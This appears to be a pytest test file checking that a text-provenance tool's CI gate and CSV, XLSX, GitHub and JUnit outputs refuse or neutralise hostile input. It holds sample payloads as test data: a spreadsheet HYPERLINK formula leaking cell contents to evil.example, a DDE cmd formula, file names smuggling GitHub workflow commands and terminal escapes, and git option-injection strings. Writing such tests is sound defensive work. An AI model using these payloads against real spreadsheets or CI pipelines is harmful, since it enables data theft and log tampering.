"""The CI gate and the tabular outputs against hostile input (issue 31): each reported case, refused or caught.

Option injection through ``--since``, renamed and copied files, credits that claim an
allowlisted outlet, formulas in spreadsheet cells, file names that try to write GitHub
workflow commands, terminal escapes or invalid XML, and a text indexed in many copies.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
import time
import xml.etree.ElementTree as ET
from pathlib import Path

import pandas as pd
import pytest
import yaml
from openpyxl import load_workbook

from provenance.cli import main
from provenance.report.check import render_github, render_junit
from provenance.report.escape import visible
from provenance.report.workbook import render_csv, render_workbook
from tests.conftest import ROOT, SEEDS, copy_seeds, git, init_repo
from tests.texts import FESTIVAL

SEED_000 = "000_3a0f44c342259dfd"
SEED_004 = "004_764842f75cb87e49"


LIBRARY = """Town council approves budget for a new public library

RIVERTON (AP) — The town council on Tuesday approved a budget of 2.3 million dollars for a new public library,
ending a debate that had divided residents for more than a year. The building will rise on the site of the
old bus depot, next to the primary school, and is due to open in the spring of next year.

“We finally have a place where the children of this town can read after school,” said Maria Lopez, who
chairs the library committee. Opponents had argued that the money should go to road repairs instead.

The council also agreed to extend the opening hours of the swimming pool during the summer holidays and
to plant two hundred trees along the river path, a project that volunteers have promised to help with.
"""

BRIDGE = """Old railway bridge to reopen as a footpath after ten years

The iron bridge over the Calder, closed to trains since 2014, will reopen in May as a footpath and cycle
route, the county said on Wednesday, after a restoration that replaced more than four hundred rivets and
repainted the whole span in its original green.

Engineers found the piers sound but the deck rotten in places; volunteers from the local history society
catalogued every plate before it was removed so that the new deck follows the old pattern exactly.

The opening will be marked by a walk from the old station to the village green, where the brass band
that played at the bridge's first opening in 1889 has promised to perform the same march again.
"""

# The payload, with words enough to be read as the title.
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click here for the whole story")'
AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0 and the rest of a headline"


def _commit(repo: Path, message: str) -> None:
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", message)


def _seed(name: str) -> str:
    return (SEEDS / f"{name}.txt").read_text(encoding="utf-8")


def _paragraphs(text: str, min_words: int = 25) -> list[str]:
    return [p.strip() for p in text.split("\n\n") if len(p.split()) >= min_words]


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """A repository whose ``corpus/`` holds the seeds and three more pages, committed on ``main``:
    one published by The Daily Planet (copyright footer), one of AP (dateline), one credited to no one."""
    corpus = copy_seeds(tmp_path / "repo" / "corpus")
    (corpus / "planet.txt").write_text(FESTIVAL + "\n© 2024 The Daily Planet\n", encoding="utf-8")
    (corpus / "library.txt").write_text(LIBRARY, encoding="utf-8")
    (corpus / "bridge.txt").write_text(BRIDGE, encoding="utf-8")
    return init_repo(tmp_path / "repo")


def _check(repo: Path, capsys: pytest.CaptureFixture[str], *extra: str) -> tuple[int, str, str]:
    code = main(["check", "--against", str(repo / "corpus"), "--since", "main", *extra])
    out, err = capsys.readouterr()
    return code, out, err


def _verdict(out: str, path: str) -> dict[str, object]:
    record: dict[str, object] = next(f for f in json.loads(out)["files"] if f["path"] == path)
    return record


# --- 1. options smuggled into git ------------------------------------------------------------------


@pytest.mark.parametrize(
    "since",
    ["--output=victim.txt", "-ovictim.txt", "--output=victim.txt --", "", "no-such-rev", "main\n::error::injected"],
)
def test_since_is_a_revision_never_an_option(
    repo: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, since: str
) -> None:
    monkeypatch.chdir(repo)
    victim = repo / "victim.txt"
    victim.write_text("precious\n", encoding="utf-8")
    (repo / "corpus" / "new.txt").write_text(_seed(SEED_004), encoding="utf-8")
    _commit(repo, "drop")
    code = main(["check", "--against", "corpus", f"--since={since}"])
    out, err = capsys.readouterr()
    assert code == 2 and out == ""
    lines = err.splitlines()
    assert len(lines) == 1 and lines[0].startswith("Error: --since "), err
    assert victim.read_text(encoding="utf-8") == "precious\n"
    assert sorted(p.name for p in repo.iterdir()) == [".git", ".gitignore", "corpus", "victim.txt"]


def test_since_resolves_the_revision_then_diffs_the_commit(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (repo / "corpus" / "new.txt").write_text(_seed(SEED_004), encoding="utf-8")
    _commit(repo, "drop")
    code, out, _ = _check(repo, capsys)  # a branch name still works
    assert code == 1 and "FAIL corpus/new.txt: exact duplicate of corpus/" in out
    commit = git(repo, "rev-parse", "main").strip()
    code = main(["check", "--against", str(repo / "corpus"), "--since", f"{commit[:10]}^{{commit}}"])
    assert code == 1 and "FAIL corpus/new.txt" in capsys.readouterr().out


def test_a_file_named_like_an_option_is_checked_not_obeyed(repo: Path) -> None:
    """The pre-commit hook and the GitHub Action pass file names after ``--``."""
    victim = repo / "victim.txt"
    victim.write_text("precious\n", encoding="utf-8")
    name = "--junit=victim.txt"
    (repo / name).write_text(_seed(SEED_004), encoding="utf-8")
    env = {k: v for k, v in os.environ.items() if not k.startswith(("GITHUB_", "PROVENANCE_"))}
    env["PATH"] = f"{Path(sys.executable).parent}{os.pathsep}{env.get('PATH', '')}"
    (hook,) = yaml.safe_load((ROOT / ".pre-commit-hooks.yaml").read_text(encoding="utf-8"))
    command = [*hook["entry"].split(), *hook["args"], name]  # how pre-commit runs it
    action = yaml.safe_load((ROOT / "action.yml").read_text(encoding="utf-8"))
    step = action["runs"]["steps"][-1]["run"]
    inputs = {"PATHS": name, "AGAINST": ".", "INDEX": "", "SINCE": "", "FORMAT": "text", "JUNIT": "", "ARGS": ""}
    action_env = env | {f"PROVENANCE_{key}": value for key, value in inputs.items()}
    for run, run_env in ((command, env), (["bash", "-c", step], action_env)):
        done = subprocess.run(run, cwd=repo, env=run_env, capture_output=True, text=True, check=False)
        assert done.returncode == 1, done.stdout + done.stderr
        assert done.stdout.startswith(f"FAIL {name}: exact duplicate of corpus/{SEED_004}.txt"), done.stdout
        assert victim.read_text(encoding="utf-8") == "precious\n"


# --- 2. renamed and copied files are new content ----------------------------------------------------


def test_a_renamed_file_with_appended_text_fails(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    git(repo, "mv", "corpus/bridge.txt", "corpus/moved.txt")
    moved = repo / "corpus" / "moved.txt"
    appended = "\n\n".join(_paragraphs(_seed(SEED_004))[2:5])
    moved.write_text(moved.read_text(encoding="utf-8") + "\n" + appended + "\n", encoding="utf-8")
    git(repo, "mv", "corpus/library.txt", "corpus/renamed.txt")  # only renamed: nothing new in it
    _commit(repo, "rename and append")
    assert git(repo, "diff", "--name-status", "-M", "HEAD~1").count("R") == 2, "git sees two renames"
    code = main(["check", "--against", str(repo / "corpus"), "--since", "HEAD~1"])
    lines = capsys.readouterr().out.splitlines()
    assert code == 1, lines
    assert lines[0].startswith("FAIL corpus/moved.txt: ") and f"of corpus/{SEED_004}.txt" in lines[0], lines
    assert lines[1].startswith("PASS corpus/renamed.txt: unrelated"), lines
    assert lines[2].startswith("checked 2 files")


def test_a_copied_file_is_checked_even_when_git_detects_copies(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    git(repo, "config", "diff.renames", "copies")  # a user's setting: copies listed as C, not A
    bridge = repo / "corpus" / "bridge.txt"
    shutil.copy(bridge, repo / "corpus" / "bridge-again.txt")
    bridge.write_text(BRIDGE + "\nCorrection: the bridge opens in June.\n", encoding="utf-8")
    _commit(repo, "copy")
    assert git(repo, "diff", "--name-status", "HEAD~1").startswith("C100\tcorpus/bridge.txt\tcorpus/bridge-again.txt")
    code = main(["check", "--against", str(repo / "corpus"), "--since", "HEAD~1"])
    lines = capsys.readouterr().out.splitlines()
    assert code == 1
    assert lines[0].startswith("FAIL corpus/bridge-again.txt: ") and "corpus/bridge.txt in this drop" in lines[0]
    assert lines[-1].startswith("checked 2 files")


# --- 4. credits are claims --------------------------------------------------------------------------


def test_claiming_an_allowlisted_outlet_does_not_pass_someone_elses_page(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (repo / "corpus" / "claims-ap.txt").write_text("Source: AP\n\n" + FESTIVAL, encoding="utf-8")
    _commit(repo, "drop")
    code, out, _ = _check(repo, capsys, "--allow-outlet", "AP", "--format", "json")
    assert code == 1
    verdict = _verdict(out, "corpus/claims-ap.txt")
    assert verdict["status"] == "fail" and verdict["credits"] == ["AP (source line)"]
    summary = str(verdict["summary"])
    assert "near-duplicate" in summary
    assert "claims AP, but the index attributes planet to The Daily Planet" in summary
    assert not any("allowlisted syndication" in note for note in verdict["notes"])  # type: ignore[union-attr]


def test_an_allowlisted_outlet_passes_text_the_index_attributes_to_it(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (repo / "corpus" / "partner.txt").write_text("Source: Associated Press\n\n" + LIBRARY, encoding="utf-8")
    _commit(repo, "drop")
    code, out, _ = _check(repo, capsys)
    assert code == 1, "a near-duplicate fails without the allowlist"
    code, out, _ = _check(repo, capsys, "--allow-outlet", "Associated Press")
    assert code == 0, out
    line = next(line for line in out.splitlines() if line.startswith("PASS corpus/partner.txt"))
    assert "allowlisted syndication (credits AP), confirmed: the index attributes library to AP" in line


def test_an_unverifiable_claim_passes_but_says_so(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (repo / "corpus" / "unknown.txt").write_text("Source: AP\n\n" + BRIDGE, encoding="utf-8")
    _commit(repo, "drop")
    code, out, _ = _check(repo, capsys, "--allow-outlet", "AP")
    assert code == 0, out
    line = next(line for line in out.splitlines() if line.startswith("PASS corpus/unknown.txt"))
    assert "claims AP (unverified: the index attributes bridge to no outlet)" in line


def test_a_contradicted_credit_is_named_in_the_verdict(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    excerpt = "\n\n".join(["Crowds at the harbour", "Source: Reuters", *_paragraphs(FESTIVAL)[:2]])
    (repo / "corpus" / "excerpt.txt").write_text(excerpt + "\n", encoding="utf-8")
    _commit(repo, "drop")
    _, out, _ = _check(repo, capsys, "--format", "json")
    verdict = _verdict(out, "corpus/excerpt.txt")
    assert "claims Reuters, but the index attributes planet to The Daily Planet" in str(verdict["summary"])


# --- 5. formulas in spreadsheet cells ---------------------------------------------------------------


@pytest.fixture(scope="module")
def formula_report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    corpus = tmp_path_factory.mktemp("formula") / "corpus"
    corpus.mkdir()
    (corpus / "evil.txt").write_text(FORMULA + "\n\n" + FESTIVAL, encoding="utf-8")
    (corpus / "copy.txt").write_text(AT_FORMULA + "\n\n" + FESTIVAL, encoding="utf-8")
    out = corpus.parent / "out"
    assert main(["analyze", str(corpus), "--out", str(out), "--format", "csv,xlsx", "--quiet"]) == 0
    return out


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_csv_cells_never_start_a_formula(formula_report: Path) -> None:
    documents = {row["id"]: row for row in _csv_rows(formula_report / "documents.csv")}
    assert documents["evil"]["title"] == "'" + FORMULA
    assert documents["copy"]["title"] == "'" + AT_FORMULA
    lineage = {row["doc"]: row for row in _csv_rows(formula_report / "lineage.csv")}
    assert lineage["evil"]["title"] == "'" + FORMULA
    for name in ("documents", "lineage", "pairs", "passages", "quotes", "rejected", "settings"):
        for row in _csv_rows(formula_report / f"{name}.csv"):
            for value in row.values():
                assert not value.startswith(("=", "+", "@", "\t", "\r")), (name, value)
                assert not value.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?(e-?\d+)?", value), (name, value)


def test_numbers_stay_numbers_in_csv() -> None:
    table = pd.DataFrame({"text": ["-3", "+x", "fine", None], "score": [-0.5, 0.25, -1e-05, None], "n": [-1, 2, 3, 4]})
    rows = list(csv.reader(io.StringIO(render_csv(table))))
    assert rows[1:] == [["'-3", "-0.5", "-1"], ["'+x", "0.25", "2"], ["fine", "-1e-05", "3"], ["", "", "4"]]


def test_workbook_cells_are_text_not_formulas(formula_report: Path) -> None:
    book = load_workbook(formula_report / "provenance.xlsx")
    for sheet_name in ("Documents", "Lineage"):
        sheet = book[sheet_name]
        header = [cell.value for cell in sheet[1]]
        column = header.index("title") + 1
        cells = [sheet.cell(row, column) for row in range(2, sheet.max_row + 1)]
        evil = next(cell for cell in cells if cell.value == FORMULA)
        assert evil.data_type == "s" and evil.quotePrefix, sheet_name
        at = next(cell for cell in cells if cell.value == AT_FORMULA)
        assert at.data_type == "s" and at.quotePrefix, sheet_name
    plain = book["Documents"]["A2"]  # an id
    assert plain.data_type == "s" and not plain.quotePrefix
    assert not any(cell.data_type == "f" for sheet in book.worksheets for row in sheet.iter_rows() for cell in row)
    # a long formula-like text keeps its wrapping as well as its quote prefix
    long = FORMULA + " padding" * 20
    tables = {"Documents": pd.DataFrame({"title": [long], "words": [-3]})}
    sheet = load_workbook(io.BytesIO(render_workbook(tables)))["Documents"]
    assert sheet["A2"].quotePrefix and sheet["A2"].alignment.wrap_text and sheet["A2"].value == long
    assert sheet["B2"].data_type == "n" and sheet["B2"].value == -3


def test_libreoffice_reads_the_csv_and_the_workbook_as_text(formula_report: Path, tmp_path: Path) -> None:
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice is not installed: `make tools` installs it from Debian's packages (needs root)")
    csv_in = tmp_path / "documents.csv"
    shutil.copy(formula_report / "documents.csv", csv_in)
    xlsx_in = tmp_path / "provenance.xlsx"
    shutil.copy(formula_report / "provenance.xlsx", xlsx_in)
    for source in (csv_in, xlsx_in):
        done = subprocess.run(
            [
                soffice,
                f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
                "--headless",
                "--convert-to",
                "xlsx",
                "--outdir",
                str(tmp_path / "out"),
                str(source),
            ],
            capture_output=True,
            text=True,
            timeout=180,
            check=False,
        )
        assert done.returncode == 0, done.stderr
    opened = load_workbook(tmp_path / "out" / "documents.xlsx").active
    assert opened is not None
    titles = [row[1] for row in opened.iter_rows(min_row=2)]
    assert {cell.data_type for cell in titles} == {"s"}
    assert "'" + FORMULA in {cell.value for cell in titles}
    resaved = load_workbook(tmp_path / "out" / "provenance.xlsx")["Documents"]
    assert FORMULA in {cell.value for cell in resaved["B"]}
    assert not any(cell.data_type == "f" for row in resaved.iter_rows() for cell in row)


# --- 6. file names in every output channel -----------------------------------------------------------

HOSTILE_NAMES = (
    "evil\n::notice title=pwned::injected.txt",
    "stop##[stop-commands]token.txt",
    "ret\r::warning::cr.txt",
    "\x1b[2J\x1b[31mred.txt",
    "ctl\x01\x0bbell\x07.txt",
    "rtl\u202etxt.exe.txt",
)


@pytest.fixture
def hostile_drop(repo: Path) -> Path:
    """Copies of a seed's excerpt under hostile names (each fails, so each gets annotations), committed."""
    excerpt = "\n\n".join(["A view on Russia and China", *_paragraphs(_seed(SEED_004))[2:5]]) + "\n"
    for name in HOSTILE_NAMES:
        (repo / "corpus" / name).write_text(excerpt, encoding="utf-8")
    _commit(repo, "hostile names")
    return repo


def test_github_output_holds_only_the_annotations_it_means(
    hostile_drop: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    summary = tmp_path / "summary.md"
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    code, out, err = _check(hostile_drop, capsys, "--format", "github")
    assert code == 1
    # GitHub's runner splits lines on LF and CR, trims leading space, and reads `##[` anywhere.
    lines = re.split(r"\r\n|\r|\n", out.rstrip("\n"))
    commands = [line.lstrip() for line in lines if line.lstrip().startswith("::")]
    assert commands and all(c.startswith("::error file=corpus/") for c in commands), commands
    verdicts = [line for line in lines if line.startswith("FAIL corpus/")]
    assert len(verdicts) == len(HOSTILE_NAMES)
    assert len(lines) == len(verdicts) + len(commands) + 1, "no line but verdicts, annotations and the summary"
    assert lines[-1].startswith("checked 6 files against")
    assert not any("##[" in line for line in lines)
    for command in commands:
        properties = command.split("::")[1]
        assert re.fullmatch(r"error file=[^:,]+,line=\d+,title=provenance%3A [\w-]+", properties), properties
    assert "\x1b" not in out + err and "\u202e" not in out
    assert "FAIL corpus/evil\\x0a::notice title=pwned::injected.txt: " in out
    assert "FAIL corpus/\\x1b[2J\\x1b[31mred.txt: " in out
    # The name reaches the annotation as it is shown everywhere (escaped where the file entered).
    assert "file=corpus/evil\\x0a%3A%3Anotice title=pwned%3A%3Ainjected.txt,line=" in out
    markdown = summary.read_text(encoding="utf-8")
    assert "\x1b" not in markdown and "\n::" not in markdown and "##[" not in markdown


def test_text_output_shows_control_characters(hostile_drop: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = _check(hostile_drop, capsys)
    assert code == 1
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", out)
    lines = out.splitlines()
    assert sum(1 for line in lines if line.startswith("FAIL corpus/")) == len(HOSTILE_NAMES)
    assert all(line.startswith(("FAIL corpus/", "    line ")) for line in lines[:-1]), lines
    assert lines[-1].startswith("checked 6 files against")
    assert "FAIL corpus/ctl\\x01\\x0bbell\\x07.txt: " in out and "FAIL corpus/rtl\\u202etxt.exe.txt: " in out


def test_junit_parses_whatever_the_names(
    hostile_drop: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    junit = tmp_path / "junit.xml"
    code, _, _ = _check(hostile_drop, capsys, "--junit", str(junit))
    assert code == 1
    suite = ET.parse(junit).getroot().find("testsuite")
    assert suite is not None and suite.get("failures") == str(len(HOSTILE_NAMES))
    names = {case.get("name") for case in suite}
    assert {f"corpus/{visible(name)}" for name in HOSTILE_NAMES} <= names
    assert "corpus/ctl\\x01\\x0bbell\\x07.txt" in names


def test_an_undecodable_file_name_is_shown_not_a_crash(
    repo: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    name = os.fsdecode(b"caf\xe9-latin1.txt")  # not UTF-8: Python keeps the byte as a lone surrogate
    try:
        (repo / "corpus" / name).write_text(_seed(SEED_004), encoding="utf-8")
    except (OSError, UnicodeEncodeError):
        pytest.skip("this file system refuses names that are not UTF-8")
    _commit(repo, "latin-1 name")
    junit = tmp_path / "junit.xml"
    code, out, _ = _check(repo, capsys, "--format", "github", "--junit", str(junit))
    assert code == 1 and "FAIL corpus/caf\\xe9-latin1.txt: exact duplicate of " in out
    ET.parse(junit)
    code, out, _ = _check(repo, capsys, "--format", "json")
    # Shown as everywhere else: the undecodable byte as \xNN (provenance.names.shown).
    assert json.loads(out)["files"][0]["path"] == "corpus/caf\\xe9-latin1.txt"


def test_renderers_escape_messages_and_properties() -> None:
    from provenance.model import CheckResult, Finding, Verdict

    name = "a,b:c%\n::notice::x\x1b.txt"
    finding = Finding("exact", "same as\r\n::error::fake", "x", 3)
    result = CheckResult((Verdict(name, "a", "fail", "exact", "why\n::debug::", (finding,)),), "i", 1, {})
    out = render_github(result)
    assert out.count("\n") == 3 and "\r" not in out
    assert "::error file=a%2Cb%3Ac%25%0A%3A%3Anotice%3A%3Ax\\x1b.txt,line=3," in out
    assert out.splitlines()[1].endswith("::same as%0D%0A::error::fake")
    ET.fromstring(render_junit(result).split("\n", 1)[1])


# --- 9. one copy against many indexed copies --------------------------------------------------------


def test_exact_copies_count_against_max_matches(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    text = _seed(SEED_000)
    for number in range(200):
        (corpus / f"copy{number:03d}.txt").write_text(text + "\n" * (number % 2), encoding="utf-8")
    new = tmp_path / "drop" / "new.txt"
    new.parent.mkdir()
    new.write_text(text, encoding="utf-8")
    assert main(["index", "build", str(corpus)]) == 0
    capsys.readouterr()
    started = time.perf_counter()
    code = main(["check", str(new), "--index", str(corpus / ".provenance" / "index.sqlite"), "--format", "json"])
    elapsed = time.perf_counter() - started
    data = json.loads(capsys.readouterr().out)
    assert code == 1
    (verdict,) = data["files"]
    assert verdict["matches"][0]["relation"] in {"exact duplicate", "same text"}
    assert len(verdict["matches"]) == 10 and data["stats"]["analysed"] == 11
    assert "190 more indexed documents share some text with it, 190 of them identical to it" in " ".join(
        verdict["notes"]
    )
    assert "check.max_matches = 10" in " ".join(verdict["notes"])
    assert elapsed < 20, f"{elapsed:.1f} s (all 200 copies analysed took about 40 s)"
